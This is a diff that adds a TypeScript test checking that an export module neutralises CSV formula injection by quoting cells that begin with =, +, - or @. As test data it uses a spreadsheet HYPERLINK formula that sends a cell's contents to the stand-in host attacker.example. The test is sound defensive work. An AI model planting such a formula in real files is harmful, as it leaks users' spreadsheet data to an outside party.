@@ -65,4 +65,30 @@ describe("Export", () => {
       assert.strictEqual(Export.fileName("csv", at), "annal-export-20250401T123456Z.csv")
     })
   )
+
+  it.effect("a CSV text cell a spreadsheet would run as a formula is written as text, and NDJSON as it is", () =>
+    Effect.gen(function* () {
+      const formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
+      const planted: Export.Exported = {
+        ...event({ name: "=1+1", n: -5 }, "@SUM(A1)", false),
+        metadata: { correlationId: formula, causationId: "+1", reason: "-2" }
+      }
+      const [row] = yield* Stream.make(yield* text("csv", [planted])).pipe(
+        Stream.pipeThroughChannel(Csv.decodeString({ headers: true })),
+        Stream.runCollect
+      )
+      assert.deepStrictEqual(
+        [row!["correlationId"], row!["causationId"], row!["decodeError"]],
+        [`'${formula}`, "'+1", "'@SUM(A1)"]
+      )
+      // JSON cells start with `{` (or a digit or `-` for a bare number), and are left alone: they read back as JSON.
+      assert.deepStrictEqual(JSON.parse(row!["data"]!), { name: "=1+1", n: -5 })
+      const [line] = yield* Stream.make(yield* text("ndjson", [planted])).pipe(
+        Stream.pipeThroughChannel(Ndjson.decodeString()),
+        Stream.runCollect
+      )
+      assert.strictEqual((line as { metadata: { correlationId: string } }).metadata.correlationId, formula)
+      assert.strictEqual(Export.textCell("plain"), "plain")
+    })
+  )
 })
